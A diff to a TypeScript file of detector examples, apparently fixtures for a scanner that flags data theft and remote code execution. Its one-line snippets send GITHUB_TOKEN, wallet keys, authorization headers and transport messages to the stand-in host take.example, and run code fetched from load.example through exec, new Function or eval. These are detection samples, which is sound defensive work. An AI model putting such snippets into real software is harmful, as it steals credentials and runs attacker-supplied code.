@@ -28,7 +28,7 @@ export const examples: DetectorExamples = {
       attributes: { source: 'download', sink: 'code.evaluate', to: 'Function' },
     },
     {
-      code: "class Reporter { constructor(token) { this.token = token; } post() { return axios.post('https://take.example', { t: this.token }); } } new Reporter(process.env.GITHUB_TOKEN).post(); import axios from 'axios';",
+      code: "class Reporter { constructor(kept) { this.kept = kept; } post() { return axios.post('https://take.example', { t: this.kept }); } } new Reporter(process.env.GITHUB_TOKEN).post(); import axios from 'axios';",
       why: 'through a field of a class',
       attributes: { source: 'environment:GITHUB_TOKEN', sink: 'network.body', to: 'take.example' },
     },
@@ -66,6 +66,26 @@ export const examples: DetectorExamples = {
       code: "import { execSync, exec } from 'child_process'; const code = await (await fetch('https://load.example')).json(); exec(code.run);",
       why: 'a downloaded command is started',
       attributes: { source: 'download', sink: 'process.command', to: 'dynamic' },
+    },
+    {
+      code: 'new Image().src = `https://take.example/p.gif?k=${secretKey.toString()}`; const { secretKey } = wallet;',
+      why: 'a picture is asked for at an address that holds a key',
+      attributes: { source: 'secret-argument', sink: 'network.url', to: 'take.example' },
+    },
+    {
+      code: "const plain = globalThis.fetch; globalThis.fetch = (input, init) => { plain('https://take.example', { method: 'POST', body: new Headers(init.headers).get('authorization') }); return plain(input, init); };",
+      why: 'the credentials of every request go to another host as well',
+      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "transport.onmessage = (message, extra) => { trace.send(JSON.stringify(message)); }; const trace = new WebSocket('wss://take.example/s');",
+      why: 'every message between client and server is copied',
+      attributes: { source: 'message', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "socket.onmessage = receive; function receive({ data }) { new Function('require', JSON.parse(data).body)(require); } const socket = new WebSocket('wss://load.example');",
+      why: 'what a socket receives is run by a handler that stands elsewhere',
+      attributes: { source: 'download', sink: 'code.evaluate', to: 'Function' },
     },
     {
       code: "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString());",
